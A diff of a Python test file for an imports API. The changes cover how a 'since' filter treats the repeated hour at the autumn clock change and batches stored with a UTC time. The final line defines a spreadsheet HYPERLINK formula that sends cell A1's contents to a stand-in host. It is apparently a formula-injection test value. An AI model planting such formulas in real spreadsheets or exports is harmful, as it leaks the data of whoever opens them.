@@ -163,10 +163,10 @@ def test_head_on_a_pdf_report_answers_its_headers_without_rendering_it(
 
 def test_since_in_the_autumns_repeated_hour(copenhagen: None, client: TestClient, loaded: Settings) -> None:
     """``since=2026-10-25T02:30:00`` (no offset, the server's local time) names two moments an hour apart, and was
-    taken as the first in silence; the batches are stored in local time without an offset, so ``since=…02:30+02:00``
-    (the first 02:30) left out a batch imported at 02:10 in the second pass of the hour -- after the moment asked
-    for. A local time of the repeated hour is refused, naming both meanings; with an offset no batch after the moment
-    is left out (one from the hour's first pass may come again)."""
+    taken as the first in silence; batches stored before revision 0005 have their local time without an offset alone,
+    so ``since=…02:30+02:00`` (the first 02:30) left out such a batch imported at 02:10 in the second pass of the hour
+    -- after the moment asked for. A local time of the repeated hour is refused, naming both meanings; with an offset
+    no such batch after the moment is left out (one from the hour's first pass may come again)."""
     records = [{"facility_id": f, "date": "2026-09-14", "severity": "low"} for f in ("F1", "F2", "F3", "F4")]
     ids = []
     for record in records:
@@ -178,7 +178,8 @@ def test_since_in_the_autumns_repeated_hour(copenhagen: None, client: TestClient
     with engine.begin() as conn:
         for batch, at in zip(ids, stored, strict=True):
             moment = dt.datetime.fromisoformat(f"2026-10-25T{at}:00")
-            conn.execute(update(ImportBatchRow).where(ImportBatchRow.id == batch).values(imported_at=moment))
+            legacy = {"imported_at": moment, "imported_at_utc": None}  # stored before revision 0005
+            conn.execute(update(ImportBatchRow).where(ImportBatchRow.id == batch).values(**legacy))
     engine.dispose()
 
     def found(since: str) -> list[int]:
@@ -198,6 +199,48 @@ def test_since_in_the_autumns_repeated_hour(copenhagen: None, client: TestClient
     assert found("2026-10-25T02:30:00+01:00") == ids[2:]  # the second 02:30: every stored 02:10 is before it
     assert found("2026-10-25T01:30:00") == ids  # before the repeated hour: one moment
     assert found("2026-10-25T03:00:00") == ids[3:]
+
+
+def test_since_is_exact_for_batches_stored_with_their_utc_time(
+    copenhagen: None, client: TestClient, loaded: Settings
+) -> None:
+    """Every batch stores its moment in UTC too (revision 0005), but ``since`` compared the local time alone, so in
+    the repeated hour it answered more than asked: ``since=…02:30+02:00`` also gave the batch of the first 02:10, and
+    ``since=…02:30+01:00`` (the second 02:30) the batch of the first 02:40, an hour before it. Now a batch with its UTC
+    time is compared by that."""
+    records = [{"facility_id": f, "date": "2026-09-14", "severity": "low"} for f in ("F1", "F2", "F3", "F4", "F5")]
+    ids = []
+    for record in records:
+        response = client.post("/api/v1/concerns", json={"records": [record]}, headers=AUTH)
+        assert response.status_code == 201, response.text
+        ids.append(int(response.json()["batch_id"]))
+    # (local time as stored, UTC): 01:50, the first 02:10 and 02:40, the second 02:10, 03:10
+    stored = (("01:50", "2026-10-24T23:50"), ("02:10", "2026-10-25T00:10"), ("02:40", "2026-10-25T00:40"))
+    stored += (("02:10", "2026-10-25T01:10"), ("03:10", "2026-10-25T02:10"))
+    engine = open_database(loaded)
+    with engine.begin() as conn:
+        for batch, (local, utc) in zip(ids, stored, strict=True):
+            values = {
+                "imported_at": dt.datetime.fromisoformat(f"2026-10-25T{local}:00"),
+                "imported_at_utc": dt.datetime.fromisoformat(f"{utc}:00"),
+            }
+            conn.execute(update(ImportBatchRow).where(ImportBatchRow.id == batch).values(**values))
+    engine.dispose()
+
+    def found(since: str) -> list[int]:
+        response = client.get("/api/v1/imports", params={"since": since})
+        assert response.status_code == 200, (since, response.text)
+        return sorted(b["id"] for b in response.json()["batches"] if b["id"] in ids)
+
+    assert found("2026-10-25T02:30:00+02:00") == ids[2:]  # the first 02:40, the second 02:10, 03:10
+    assert found("2026-10-25T00:30:00Z") == ids[2:]
+    assert found("2026-10-25T02:30:00+01:00") == ids[4:]  # the first 02:40 was an hour before it
+    assert found("2026-10-25T02:10:00+01:00") == ids[3:]  # the second 02:10 itself, not the first
+    assert found("2026-10-25T02:00:00+02:00") == ids[1:]  # the hour's start: 01:50 before it
+    assert found("2026-10-25T03:00:00") == ids[4:]
+    batches = client.get("/api/v1/imports", params={"since": "2026-10-25T02:30:00+02:00"}).json()["batches"]
+    times = {b["id"]: b["imported_at"] for b in batches}
+    assert times[ids[3]] == "2026-10-25T02:10:00+01:00"  # shown with its own offset
 
 
 FORMULA = '=HYPERLINK("https://example.invalid/?"&A1;"Klik")'
